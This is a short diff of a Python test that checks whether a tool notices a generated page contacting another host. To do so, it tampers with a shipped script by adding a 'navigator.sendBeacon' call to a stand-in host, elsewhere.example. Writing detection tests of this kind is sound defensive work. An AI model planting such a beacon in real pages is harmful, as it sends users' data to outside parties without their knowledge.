@@ -66,7 +66,7 @@ def test_one_broken_constant_is_noticed(recognizer, tmp_path, path, old, new, to
 def test_a_page_that_asks_another_host_is_noticed(recognizer, tmp_path, monkeypatch):
     """Even one whose policy lets it, and where nobody answers."""
     monkeypatch.setattr(pages, "HEADERS", {"X-Content-Type-Options": "nosniff"})
-    monkeypatch.setattr(pages, "_with_policy", lambda html: html)
+    monkeypatch.setattr(pages, "_for_here", lambda html: html)
     folder = ship_page(recognizer, tmp_path / "out").folder
     ask = 'navigator.sendBeacon("https://elsewhere.example/", "x"); globalThis.mien ='
     tamper(folder, "engine-local.js", "globalThis.mien =", ask)
